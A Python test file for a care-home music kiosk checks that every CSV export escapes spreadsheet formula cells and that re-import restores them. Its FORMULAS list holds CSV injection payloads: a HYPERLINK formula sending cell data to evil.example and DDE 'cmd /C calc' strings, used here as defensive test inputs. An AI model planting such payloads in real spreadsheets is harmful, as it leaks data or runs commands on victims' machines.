"""CSV formula injection: every CSV the project writes escapes cells a spreadsheet would run as a formula
(a leading ' before = + - @ tab CR, numbers left alone), and `residents import` reads them back unchanged."""

from __future__ import annotations

import ast
import csv
from pathlib import Path

from kiosk.adapters.csv_safe import escape_cell, unescape_cell
from kiosk.adapters.docstore import DataFolder
from kiosk.adapters.residents import ResidentsStore
from kiosk.adapters.rollups import RollupStore
from kiosk.cli import main

REPO = Path(__file__).resolve().parents[2]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def test_escape_rule():
    for f in FORMULAS:
        assert escape_cell(f) == "'" + f and unescape_cell(escape_cell(f)) == f
    for number in ("-3.5", "+1", "-0", "12", "-1e3", ".5"):
        assert escape_cell(number) == number
    assert escape_cell(-3.5) == -3.5 and escape_cell(7) == 7
    for title in ("'S Wonderful", "'Til There Was You", "Daisy Bell", "", "-"[:0]):
        assert escape_cell(title) == title and unescape_cell(title) == title
    assert escape_cell("-") == "'-" and unescape_cell("'-") == "-"


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _assert_escaped(path: Path) -> None:
    cells = _cells(path)
    assert cells, path
    for cell in cells:
        if cell and cell[0] in DANGER:
            assert escape_cell(cell) == cell, f"{path.name}: unescaped formula cell {cell!r}"


def _hostile_residents(tmp_path: Path) -> Path:
    header = "id,first_name,preferred_name,birth_year,favourite_songs,notes,hometown,consent"
    rows = [
        f'F-1,"{FORMULAS[0].replace(chr(34), chr(34) * 2)}",'
        f'"{FORMULAS[1]}",1931,"{FORMULAS[2]}; \'S Wonderful","{FORMULAS[3]}","\'Til There Was You",yes',
        "B-2,Bert,,1929,Daisy Bell,-3.5,Leeds,yes",
    ]
    path = tmp_path / "in" / "residents.csv"
    path.parent.mkdir()
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def test_every_csv_writer_escapes_formulas_and_import_round_trips(tmp_path, data_dir, capsys):
    assert main(["--data-dir", str(data_dir), "residents", "import", str(_hostile_residents(tmp_path))]) == 0
    store = ResidentsStore(DataFolder(data_dir))
    before = {r.staff_id: r for r in store.all()}
    hostile = before["F-1"]
    assert hostile.first_name == FORMULAS[0] and hostile.favourite_songs[0] == FORMULAS[2]

    # writer 1: residents export, then import into a new folder: the same profiles
    out = tmp_path / "out" / "residents.csv"
    out.parent.mkdir()
    assert main(["--data-dir", str(data_dir), "residents", "export", str(out)]) == 0
    _assert_escaped(out)
    again = tmp_path / "again"
    assert main(["--data-dir", str(again), "residents", "import", str(out)]) == 0
    after = {r.staff_id: r for r in ResidentsStore(DataFolder(again)).all()}
    for staff_id, r in before.items():
        a = after[staff_id]
        assert (a.first_name, a.preferred_name, a.favourite_songs, a.notes, a.hometown) == (
            r.first_name,
            r.preferred_name,
            r.favourite_songs,
            r.notes,
            r.hometown,
        )
    assert after["F-1"].hometown == "'Til There Was You"

    # writers 2 and 3: the report's sessions and plays files, fresh and from the month cache
    RollupStore(DataFolder(data_dir)).add(
        {
            "session_id": "s1",
            "started_at": "2026-06-01T10:00:00+00:00",
            "ended_at": "2026-06-01T10:20:00+00:00",
            "resident_ids": [hostile.resident_id],
            "clock_ok": True,
            "listened_s": 1200,
            "mode": FORMULAS[4],
            "plays": [{"song_id": "x", "title": FORMULAS[1], "artist": FORMULAS[3], "outcome": "completed"}],
        }
    )
    for run in ("fresh", "cached"):
        report = tmp_path / f"report-{run}.csv"
        args = ["--data-dir", str(data_dir), "report", "--from", "2026-06-01", "--to", "2026-06-02"]
        assert main([*args, "--csv", str(report)]) == 0
        for path in (report, report.with_name(f"{report.stem}-plays.csv")):
            _assert_escaped(path)
            escaped = [c for c in _cells(path) if c[:1] == "'" and c[1:2] in DANGER]
            assert escaped, f"{path.name}: the hostile name, title or mode is missing"


def test_no_csv_is_written_around_the_shared_function():
    """Every csv.writer / DictWriter in the package lives in kiosk/adapters/csv_safe.py."""
    offenders = []
    for path in (REPO / "kiosk").rglob("*.py"):
        if path.name == "csv_safe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path.relative_to(REPO)}:{node.lineno}")
    assert offenders == []
